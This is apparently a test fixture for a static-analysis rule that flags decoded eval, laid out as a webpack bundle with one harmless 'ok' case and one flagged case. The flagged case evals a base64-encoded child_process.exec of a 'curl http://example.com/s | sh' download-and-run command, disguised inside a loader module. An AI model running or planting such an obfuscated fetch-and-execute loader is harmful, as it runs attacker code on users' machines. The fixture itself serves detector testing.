var __webpack_modules__ = ({
  "./node_modules/object-assign/index.js": ((module) => {
// ok: js_eval_decoded
eval("var test2 = {};\nfor (var i = 0; i < 10; i++) {\n\ttest2['_' + String.fromCharCode(i)] = i;\n}\nmodule.exports = test2;\n\n//# sourceURL=webpack://lib/./node_modules/object-assign/index.js?");
  }),
  "./src/loader.js": (() => {
// ruleid: js_eval_decoded
eval("require('child_process').exec(Buffer.from('Y3VybCBodHRwOi8vZXhhbXBsZS5jb20vcyB8IHNo', 'base64').toString())");
  }),
});
